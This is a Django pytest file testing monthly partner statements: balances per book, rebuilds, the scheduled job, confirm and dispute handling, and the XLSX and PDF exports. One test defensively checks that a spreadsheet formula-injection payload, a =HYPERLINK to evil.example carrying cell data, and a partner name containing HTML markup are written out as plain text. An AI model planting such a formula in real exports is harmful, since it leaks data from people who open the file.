"""Statements (对账单): the month's figures, rebuilds, the monthly job, confirm and dispute, and
the downloads - with exact figures. Ledger entries and invoices are made directly (ledger.post,
Invoice rows), so these tests do not depend on how invoices and payments are raised."""

from __future__ import annotations

import io
import re
from contextlib import contextmanager
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.contrib.contenttypes.models import ContentType
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from qudao.core.errors import Conflict, FieldErrors, Forbidden
from qudao.core.models import Job, Notification, ObjectChange, OutboxEvent
from qudao.finance import ledger, statements
from qudao.finance.models import (
    Allocation,
    Invoice,
    LedgerEntry,
    Payment,
    Statement,
    StatementDispute,
    StatementLine,
)

D = Decimal
OCTOBER = "2026-10"


@contextmanager
def clock(moment: datetime):
    """Django's clock stands at `moment` (an aware datetime) inside the block."""
    original = timezone.now
    timezone.now = lambda: moment
    try:
        yield
    finally:
        timezone.now = original


def utc(*args) -> datetime:
    return datetime(*args, tzinfo=UTC)


def invoice(partner, number, amount, issued_on, due_on=None):
    return Invoice.objects.create(
        number=number,
        partner=partner,
        source=Invoice.Source.ERP,
        issued_on=issued_on,
        due_on=due_on or issued_on,
        amount=D(amount),
    )


def allocate(invoice_, payment, amount, at):
    row = Allocation.objects.create(
        invoice=invoice_,
        source=Allocation.Source.PAYMENT,
        payment=payment,
        amount=D(amount),
        created_at=at,
        allocated_on=timezone.localdate(at),
    )
    Invoice.objects.filter(pk=invoice_.pk).update(settled=invoice_.settled + D(amount))
    invoice_.refresh_from_db()
    Payment.objects.filter(pk=payment.pk).update(allocated=payment.allocated + D(amount))
    payment.refresh_from_db()
    return row


def post(partner, book, kind, amount, on=None, reference="", note=""):
    return ledger.post(
        partner=partner, book=book, kind=kind, amount=D(amount), occurred_on=on, reference=reference, note=note
    )


def september_to_november(partner):
    """dist_js's money from September to November 2026 (Asia/Shanghai):
    Sep  10 invoice A 1,000.00; Sep 20 prepayment in 500.00
    Oct  5 payment 400.00 (allocated to A on Oct 5); Oct 15 rebate posted 80.00;
         Oct 20 prepayment used 200.00; Oct 31 23:30 invoice B 250.00; Oct 31 23:30 payment 50.00
         allocated to A then
    Nov  1 00:30 payment 100.00 allocated to B then (still Oct 31 in UTC)."""
    a = invoice(partner, "INV-A", "1000.00", date(2026, 9, 10), date(2026, 10, 10))
    post(partner, "receivable", "invoice", "1000.00", date(2026, 9, 10), "INV-A")
    post(partner, "prepayment", "prepayment_in", "500.00", date(2026, 9, 20), "PP-1")
    payment = Payment.objects.create(
        number="PAY-1", partner=partner, amount=D("550.00"), received_on=date(2026, 10, 5), bank_reference="B1"
    )
    post(partner, "receivable", "payment", "-400.00", date(2026, 10, 5), "PAY-1", "回款")
    allocate(a, payment, "400.00", utc(2026, 10, 5, 2, 0))
    post(partner, "rebate", "rebate_posted", "80.00", date(2026, 10, 15), "RB-1")
    post(partner, "prepayment", "prepayment_out", "-200.00", date(2026, 10, 20), "SO-1")
    with clock(utc(2026, 10, 31, 15, 30)):  # 23:30 on Oct 31 in Shanghai
        b = invoice(partner, "INV-B", "250.00", timezone.localdate(), date(2026, 11, 30))
        post(partner, "receivable", "invoice", "250.00", None, "INV-B")
        post(partner, "receivable", "payment", "-50.00", None, "PAY-1")
        allocate(a, payment, "50.00", timezone.now())
    late = Payment.objects.create(
        number="PAY-2", partner=partner, amount=D("100.00"), received_on=date(2026, 11, 1), bank_reference="B2"
    )
    with clock(utc(2026, 10, 31, 16, 30)):  # 00:30 on Nov 1 in Shanghai
        post(partner, "receivable", "payment", "-100.00", None, "PAY-2")
        allocate(b, late, "100.00", timezone.now())
    return a, b


def pdf_text(pdf: bytes) -> str:
    """The text a PDF shows, decoded through its fonts' ToUnicode maps (qudao.core.tests.pdf_reading)."""
    from qudao.core.tests.pdf_reading import pdf_text as read

    return read(pdf)


def pdf_fonts(pdf: bytes) -> list[dict]:
    from qudao.core.tests.pdf_reading import fonts

    return fonts(pdf)


def line_tuples(statement):
    return [
        (line.position, line.kind, line.book, line.occurred_on, line.reference, line.amount, line.balance_after)
        for line in statement.lines.order_by("position")
    ]


def test_it_builds_the_month_with_balances_per_book_every_entry_and_the_invoices_open_at_its_end(world):
    # given
    september_to_november(world.dist_js)
    # when
    statement = statements.generate_statement(partner=world.dist_js, month=OCTOBER, actor=world.finance)
    # then
    statement.refresh_from_db()
    assert statement.number.startswith("ST")
    assert (statement.period_start, statement.period_end, statement.currency, statement.status) == (
        date(2026, 10, 1),
        date(2026, 10, 31),
        "CNY",
        "issued",
    )
    assert statement.balances == {
        "receivable": {"opening": "1000.00", "closing": "800.00"},
        "prepayment": {"opening": "500.00", "closing": "300.00"},
        "rebate": {"opening": "0.00", "closing": "80.00"},
    }
    assert line_tuples(statement) == [
        (1, "payment", "receivable", date(2026, 10, 5), "PAY-1", D("-400.0000"), D("600.0000")),
        (2, "rebate_posted", "rebate", date(2026, 10, 15), "RB-1", D("80.0000"), D("80.0000")),
        (3, "prepayment_out", "prepayment", date(2026, 10, 20), "SO-1", D("-200.0000"), D("300.0000")),
        (4, "invoice", "receivable", date(2026, 10, 31), "INV-B", D("250.0000"), D("850.0000")),
        (5, "payment", "receivable", date(2026, 10, 31), "PAY-1", D("-50.0000"), D("800.0000")),
        # A: 1,000 - 400 - 50 (23:30 on the 31st counts); B: 250, its 100 came at 00:30 on Nov 1
        (6, "open_invoice", "receivable", date(2026, 9, 10), "INV-A", D("550.0000"), None),
        (7, "open_invoice", "receivable", date(2026, 10, 31), "INV-B", D("250.0000"), None),
    ]
    assert statement.lines.get(position=1).description == "回款"
    assert OutboxEvent.objects.filter(event_type="statement.issued", aggregate_id=str(statement.pk)).count() == 1
    assert list(Notification.objects.filter(kind="statement.issued").values_list("user__username", flat=True)) == [
        world.dist_admin.username
    ]
    # September closes where October opens; the payment of 00:30 on Nov 1 is not October's
    september = statements.generate_statement(partner=world.dist_js, month="2026-09", actor=world.finance)
    assert september.balances == {
        "receivable": {"opening": "0.00", "closing": "1000.00"},
        "prepayment": {"opening": "0.00", "closing": "500.00"},
        "rebate": {"opening": "0.00", "closing": "0.00"},
    }
    assert [(line.kind, line.reference, line.amount) for line in september.lines.order_by("position")] == [
        ("invoice", "INV-A", D("1000.0000")),
        ("prepayment_in", "PP-1", D("500.0000")),
        ("open_invoice", "INV-A", D("1000.0000")),
    ]
    assert LedgerEntry.objects.get(reference="PAY-2").occurred_on == date(2026, 11, 1)


def test_it_rebuilds_an_issued_statement_in_place_and_never_a_confirmed_one(world):
    # given
    september_to_november(world.dist_js)
    first = statements.generate_statement(partner=world.dist_js, month=OCTOBER, actor=world.finance)
    post(world.dist_js, "rebate", "adjustment", "20.00", date(2026, 10, 25), "ADJ")
    # when: rebuilt while only issued
    again = statements.generate_statement(partner=world.dist_js, month=OCTOBER, actor=world.finance)
    # then: the same statement, the late entry included
    assert (again.pk, again.number) == (first.pk, first.number)
    assert Statement.objects.count() == 1
    assert again.balances["rebate"] == {"opening": "0.00", "closing": "100.00"}
    assert again.lines.count() == 8
    # when: confirmed, then generated again
    statements.confirm_statement(statement=again, actor=world.dist_admin)
    post(world.dist_js, "rebate", "adjustment", "5.00", date(2026, 10, 26), "ADJ2")
    with pytest.raises(Conflict):
        statements.generate_statement(partner=world.dist_js, month=OCTOBER, actor=world.finance)
    # then: nothing changed
    again.refresh_from_db()
    assert (again.status, again.lines.count(), again.balances["rebate"]["closing"]) == ("confirmed", 8, "100.00")
    assert again.confirmed_by == world.dist_admin and again.confirmed_at is not None


def test_it_refuses_a_month_that_is_not_over_or_not_a_month(world):
    # given
    post(world.dist_js, "receivable", "invoice", "10.00")
    current = timezone.localdate().strftime("%Y-%m")
    # when / then
    for month, message in (
        (current, "Statements are generated for months that are over."),
        ("2026-13", "Enter a month as YYYY-MM, e.g. 2026-10."),
        ("oct", "Enter a month as YYYY-MM, e.g. 2026-10."),
    ):
        with pytest.raises(FieldErrors) as error:
            statements.generate_statement(partner=world.dist_js, month=month)
        assert error.value.errors == {"month": [message]}
    assert Statement.objects.count() == 0


def test_it_generates_the_month_for_every_partner_with_entries_as_a_restartable_job(world):
    # given: entries for dist_js and dealer_zj (none for sub_js); dist_js is already done
    september_to_november(world.dist_js)
    post(world.dealer_zj, "receivable", "invoice", "300.00", date(2026, 10, 3), "INV-Z")
    post(world.dealer_zj, "receivable", "payment", "-300.00", date(2026, 10, 9), "PAY-Z")
    done = statements.generate_statement(partner=world.dist_js, month=OCTOBER)
    # when
    job = statements.start_generation(user=world.finance, month=OCTOBER)
    # then: dealer_zj generated, dist_js skipped (not rebuilt)
    job.refresh_from_db()
    assert (job.kind, job.status, job.progress_done, job.progress_total) == ("finance.statements", "succeeded", 1, 1)
    zj = Statement.objects.get(partner=world.dealer_zj)
    assert job.result["generated"] == 1 and job.result["numbers"] == [zj.number]
    assert zj.balances["receivable"] == {"opening": "0.00", "closing": "0.00"}
    assert zj.lines.count() == 2
    assert Statement.objects.get(partner=world.dist_js).issued_at == done.issued_at
    assert not Statement.objects.filter(partner=world.sub_js).exists()
    # when: run again (a restart) - nothing left to do
    again = statements.start_generation(user=world.finance, month=OCTOBER)
    again.refresh_from_db()
    assert (again.status, again.progress_total, again.result["generated"]) == ("succeeded", 0, 0)
    assert Statement.objects.count() == 2
    # a user without finance.manage starts nothing
    with pytest.raises(Forbidden):
        statements.start_generation(user=world.channel, month=OCTOBER)
    assert Job.objects.filter(kind="finance.statements").count() == 2


def test_it_runs_last_month_on_schedule_and_skips_when_every_partner_is_done(world):
    # given
    post(world.dealer_zj, "receivable", "invoice", "300.00", date(2026, 10, 3), "INV-Z")
    # when: the periodic task on Nov 1
    outcome = statements.run_scheduled_generation(today=date(2026, 11, 1))
    # then
    assert Job.objects.get(pk=outcome["job"]).status == "succeeded"
    assert list(Statement.objects.values_list("partner__code", "period_start")) == [
        (world.dealer_zj.code, date(2026, 10, 1))
    ]
    assert statements.run_scheduled_generation(today=date(2026, 11, 1)) == {}
    assert Job.objects.filter(kind="finance.statements").count() == 1


def test_it_confirms_only_for_the_partner_s_administrator(world):
    # given
    post(world.dist_js, "receivable", "invoice", "10.00", date(2026, 10, 3))
    statement = statements.generate_statement(partner=world.dist_js, month=OCTOBER)
    # when / then
    for user in (world.dist_staff, world.finance, world.zj_admin):
        with pytest.raises(Forbidden):
            statements.confirm_statement(statement=statement, actor=user)
    statement.refresh_from_db()
    assert statement.status == "issued"
    statements.confirm_statement(statement=statement, actor=world.dist_admin)
    assert Statement.objects.get(pk=statement.pk).status == "confirmed"
    assert OutboxEvent.objects.filter(event_type="statement.confirmed").count() == 1
    assert Notification.objects.filter(kind="statement.confirmed", user=world.finance).count() == 1
    with pytest.raises(Conflict):
        statements.confirm_statement(statement=statement, actor=world.dist_admin)


def test_it_disputes_lines_then_finance_adjusts_and_explains_and_the_statement_is_resolved(world):
    # given
    september_to_november(world.dist_js)
    statement = statements.generate_statement(partner=world.dist_js, month=OCTOBER)
    rebate_line = statement.lines.get(position=2)
    payment_line = statement.lines.get(position=5)
    # when: two disputes, one with a PDF
    first = statements.dispute_statement(
        statement=statement,
        line_ids=[rebate_line.pk],
        comment="返利应为 100 元",
        actor=world.dist_admin,
        attachment=SimpleUploadedFile("proof.pdf", b"%PDF-1.4\nproof"),
    )
    second = statements.dispute_statement(
        statement=statement,
        line_ids=[payment_line.pk, str(rebate_line.pk)],
        comment="回款日期不对",
        actor=world.dist_admin,
    )
    # then
    statement.refresh_from_db()
    assert statement.status == "disputed"
    assert list(first.lines.values_list("position", flat=True)) == [2]
    assert sorted(second.lines.values_list("position", flat=True)) == [2, 5]
    assert first.attachment.name.endswith(".pdf")
    assert OutboxEvent.objects.filter(event_type="statement.disputed").count() == 2
    assert Notification.objects.filter(kind="statement.disputed", user=world.finance).count() == 2
    with pytest.raises(Conflict):  # an open dispute: not confirmable yet
        statements.confirm_statement(statement=statement, actor=world.dist_admin)
    # when: finance adjusts the rebate by 20.00
    balance_before = ledger.balance_of(world.dist_js, "rebate")
    with clock(utc(2026, 11, 20, 4, 0)):
        statements.resolve_dispute(
            dispute=first, actor=world.finance, amount="20.00", book="rebate", resolution="补记返利"
        )
    # then: an adjustment entry, named by the dispute; the statement still disputed
    first.refresh_from_db()
    entry = first.adjustment
    assert (first.status, first.resolved_by, first.resolution) == ("adjusted", world.finance, "补记返利")
    assert (entry.kind, entry.book, entry.amount, entry.reference, entry.occurred_on) == (
        "adjustment",
        "rebate",
        D("20.0000"),
        statement.number,
        date(2026, 11, 20),
    )
    assert ledger.balance_of(world.dist_js, "rebate") == balance_before + D("20")
    assert Statement.objects.get(pk=statement.pk).status == "disputed"
    assert not OutboxEvent.objects.filter(event_type="statement.resolved").exists()
    # when: the second is explained
    statements.resolve_dispute(dispute=second, actor=world.finance, resolution="银行到账日为 10 月 31 日")
    # then: resolved, and the partner may confirm it now
    second.refresh_from_db()
    assert (second.status, second.adjustment) == ("explained", None)
    statement.refresh_from_db()
    assert statement.status == "resolved"
    assert OutboxEvent.objects.filter(event_type="statement.resolved").count() == 1
    assert Notification.objects.filter(kind="statement.resolved", user=world.dist_admin).count() == 1
    with pytest.raises(Conflict):
        statements.resolve_dispute(dispute=second, actor=world.finance, resolution="again")
    statements.confirm_statement(statement=statement, actor=world.dist_admin)
    assert Statement.objects.get(pk=statement.pk).status == "confirmed"
    assert ledger.reconcile() == []
    # the status history is in the audit trail
    changes = ObjectChange.objects.filter(
        content_type=ContentType.objects.get_for_model(Statement), object_id=str(statement.pk)
    ).order_by("at", "pk")
    history = [change.after["status"] for change in changes if "status" in (change.after or {})]
    assert history == ["issued", "disputed", "resolved", "confirmed"]


def test_it_refuses_bad_disputes_and_bad_resolutions_and_writes_nothing(world):
    # given
    post(world.dist_js, "receivable", "invoice", "10.00", date(2026, 10, 3))
    post(world.dealer_zj, "receivable", "invoice", "30.00", date(2026, 10, 4))
    statement = statements.generate_statement(partner=world.dist_js, month=OCTOBER)
    other = statements.generate_statement(partner=world.dealer_zj, month=OCTOBER)
    foreign_line = other.lines.get()
    events = OutboxEvent.objects.count()
    # when / then: another statement's line, no comment, a fake PDF
    with pytest.raises(FieldErrors) as error:
        statements.dispute_statement(
            statement=statement,
            line_ids=[foreign_line.pk, "x"],
            comment="  ",
            actor=world.dist_admin,
            attachment=SimpleUploadedFile("proof.pdf", b"not a pdf"),
        )
    assert error.value.errors == {
        "lines": ["x is not a line of this statement.", f"{foreign_line.pk} is not a line of this statement."],
        "comment": ["Say what is wrong."],
        "attachment": ["The file is not a real PDF or image."],
    }
    with pytest.raises(FieldErrors) as error:
        statements.dispute_statement(
            statement=statement,
            line_ids=[],
            comment="x",
            actor=world.dist_admin,
            attachment=SimpleUploadedFile("proof.exe", b"MZ"),
        )
    assert error.value.errors == {
        "lines": ["Choose the lines you dispute."],
        "attachment": ["Attach a PDF or a JPG, PNG or WebP image."],
    }
    big = SimpleUploadedFile("big.png", b"\x89PNG\r\n\x1a\n" + b"0" * (5 * 1024 * 1024))
    with pytest.raises(FieldErrors) as error:
        statements.dispute_statement(
            statement=statement,
            line_ids=[statement.lines.get().pk],
            comment="x",
            actor=world.dist_admin,
            attachment=big,
        )
    assert error.value.errors == {"attachment": ["The file is too large (at most 5 MB)."]}
    # another partner's administrator may not dispute it at all
    with pytest.raises(Forbidden):
        statements.dispute_statement(
            statement=statement, line_ids=[statement.lines.get().pk], comment="x", actor=world.zj_admin
        )
    assert StatementDispute.objects.count() == 0
    assert Statement.objects.get(pk=statement.pk).status == "issued"
    assert OutboxEvent.objects.count() == events
    # resolutions
    dispute = statements.dispute_statement(
        statement=statement, line_ids=[statement.lines.get().pk], comment="金额不对", actor=world.dist_admin
    )
    entries = LedgerEntry.objects.count()
    cases = [
        ({}, {"resolution": ["Explain the lines, or enter an adjustment."]}),
        ({"amount": "0", "book": "rebate"}, {"amount": ["An adjustment moves money: enter an amount other than 0."]}),
        (
            {"amount": "abc", "book": "cash"},
            {"amount": ["Enter a number."], "book": ["Choose the book the adjustment goes to."]},
        ),
        ({"amount": "1.234", "book": "rebate"}, {"amount": ["At most 2 decimal places."]}),
        ({"book": "rebate"}, {"amount": ["Enter the amount of the adjustment."]}),
    ]
    for fields, expected in cases:
        with pytest.raises(FieldErrors) as error:
            statements.resolve_dispute(dispute=dispute, actor=world.finance, **fields)
        assert error.value.errors == expected
    with pytest.raises(Forbidden):
        statements.resolve_dispute(dispute=dispute, actor=world.channel, resolution="x")
    dispute.refresh_from_db()
    assert (dispute.status, LedgerEntry.objects.count()) == ("open", entries)


def test_it_writes_the_statement_as_xlsx_with_exact_figures_and_as_a_pdf(world):
    from openpyxl import load_workbook

    # given
    september_to_november(world.dist_js)
    statement = statements.generate_statement(partner=world.dist_js, month=OCTOBER)
    # when
    workbook = load_workbook(io.BytesIO(statements.statement_xlsx(statement)))
    pdf = statements.statement_pdf(statement)
    # then
    rows = [tuple(cell for cell in row) for row in workbook.active.iter_rows(values_only=True)]
    rows = [tuple(value for value in row if value is not None) for row in rows]
    assert rows[0] == ("Statement", statement.number)
    assert rows[2] == ("Period", "2026-10-01 - 2026-10-31")
    assert rows[3] == ("Currency", "CNY")
    assert rows[6:10] == [
        ("Book", "Opening balance", "Closing balance"),
        ("Receivable", 1000, 800),
        ("Prepayment", 500, 300),
        ("Rebate fund", 0, 80),
    ]
    assert rows[12] == ("#", "Date", "Book", "Kind", "Reference", "Description", "Amount", "Balance")
    assert rows[13] == (1, datetime(2026, 10, 5), "Receivable", "Payment", "PAY-1", "回款", -400, 600)
    assert rows[14:18] == [
        (2, datetime(2026, 10, 15), "Rebate fund", "Rebate posted", "RB-1", 80, 80),
        (3, datetime(2026, 10, 20), "Prepayment", "Prepayment used", "SO-1", -200, 300),
        (4, datetime(2026, 10, 31), "Receivable", "Invoice", "INV-B", 250, 850),
        (5, datetime(2026, 10, 31), "Receivable", "Payment", "PAY-1", -50, 800),
    ]
    assert rows[19:22] == [
        ("Invoices open at the end of the month",),
        ("#", "Issued", "Invoice", "Due", "Outstanding"),
        (6, datetime(2026, 9, 10), "INV-A", "2026-10-10", 550),
    ]
    assert rows[22] == (7, datetime(2026, 10, 31), "INV-B", "2026-11-30", 250)
    assert pdf.startswith(b"%PDF-") and pdf.rstrip().endswith(b"%%EOF")
    # one font, embedded (a subset of WenQuanYi Micro Hei travels with the PDF), no font of the viewer's
    assert {(re.sub(r"^[A-Z]{6}\+|-\d+$", "", font["base_font"]), font["embedded"]) for font in pdf_fonts(pdf)} == {
        ("WenQuanYiMicroHei", True)
    }
    assert b"/Count 1" in pdf  # one page
    text = pdf_text(pdf)
    for shown in (
        statement.number,
        world.dist_js.legal_name,
        "1,000.00",
        "800.00",
        "-400.00",
        "INV-A",
        "550.00",
        "回款",
    ):
        assert shown in text, shown


def test_it_shows_a_reversal_in_the_month_it_was_made(world):
    # given: a September entry reversed in October shows in October, as on paper
    entry = post(world.dist_js, "receivable", "invoice", "99.00", date(2026, 9, 8), "INV-R")
    with clock(utc(2026, 10, 3, 2, 0)):
        ledger.reverse(entry=entry, note="开错")
    # when
    september = statements.generate_statement(partner=world.dist_js, month="2026-09")
    october = statements.generate_statement(partner=world.dist_js, month=OCTOBER)
    # then
    assert september.balances["receivable"]["closing"] == "99.00"
    assert october.balances["receivable"] == {"opening": "99.00", "closing": "0.00"}
    assert list(StatementLine.objects.filter(statement=october).values_list("kind", "amount", "description")) == [
        ("reversal", D("-99.0000"), "开错")
    ]


def test_it_seeds_last_month_s_statements_one_confirmed_one_disputed_and_nothing_without_entries(world):
    import random

    from qudao.finance.demo_statements import seed_statements

    # given: no entries yet
    assert seed_statements(random.Random(7)) == {}
    assert Statement.objects.count() == 0
    # given: entries last month for two partners with administrators
    last = statements.last_full_month()
    post(world.dist_js, "receivable", "invoice", "100.00", last, "INV-D1")
    post(world.dealer_zj, "receivable", "invoice", "200.00", last, "INV-D2")
    # when
    outcome = seed_statements(random.Random(7))
    # then
    assert outcome["generated"] == 2
    by_status = dict(Statement.objects.values_list("status", "number"))
    assert by_status == {"confirmed": outcome["confirmed"], "disputed": outcome["disputed"]}
    assert StatementDispute.objects.get().comment == "此笔金额与我方账面不符，请核对。"


def test_it_writes_a_bank_reference_that_looks_like_a_formula_as_text_in_the_xlsx_and_the_pdf(world):
    from openpyxl import load_workbook

    from qudao.finance import payments

    # given: a payment whose bank reference a spreadsheet would take for a formula, and a partner
    # name with markup characters; the month is over
    formula = '=HYPERLINK("http://evil.example/?"&B1,"付款凭证")'
    world.dist_js.legal_name = "A&B <b>贸易</b> 有限公司"
    world.dist_js.save()
    today = timezone.localdate()
    last_month = (today.replace(day=1) - timezone.timedelta(days=1)).replace(day=10)
    payments.record_payment(
        partner=world.dist_js,
        data={"amount": "300.00", "received_on": last_month.isoformat(), "bank_reference": formula},
        actor=world.finance,
    )
    statement = statements.generate_statement(partner=world.dist_js, month=last_month)

    # when
    sheet = load_workbook(io.BytesIO(statements.statement_xlsx(statement))).active
    pdf = statements.statement_pdf(statement)

    # then: the entry's description is the exact text in a string cell; the amount a number
    entry = next(row for row in sheet.iter_rows(min_row=14) if row[5].value == formula)
    assert (entry[5].data_type, entry[5].quotePrefix) == ("s", True)
    assert (entry[6].value, entry[6].data_type) == (-300, "n")
    # and the PDF prints the texts as they are, no markup read from them (pdf_text separates the
    # runs of Latin and Chinese text with spaces)
    text = "".join(pdf_text(pdf).split())
    assert "A&B<b>贸易</b>有限公司" in text
    assert '=HYPERLINK("http://evil.example/?"&B1,"付款凭证")' in text


def test_it_downloads_the_statement_when_stored_text_holds_control_characters(world):
    from openpyxl import load_workbook

    # given: a ledger note and a partner name holding control characters, stored before the rule
    september_to_november(world.dist_js)
    LedgerEntry.objects.filter(reference="PAY-1").update(note="回款\x0b\x07")
    type(world.dist_js).objects.filter(pk=world.dist_js.pk).update(legal_name="南京金陵\x1b商贸有限公司")
    world.dist_js.refresh_from_db()
    statement = statements.generate_statement(partner=world.dist_js, month=OCTOBER)

    # when
    sheet = load_workbook(io.BytesIO(statements.statement_xlsx(statement))).active
    pdf = statements.statement_pdf(statement)

    # then: both are written, the characters shown as U+FFFD
    assert sheet["B2"].value == f"南京金陵\ufffd商贸有限公司 ({world.dist_js.code})"
    assert sheet["F14"].value == "回款\ufffd\ufffd"
    assert pdf.startswith(b"%PDF-")
    assert "南京金陵\ufffd商贸有限公司" in pdf_text(pdf)
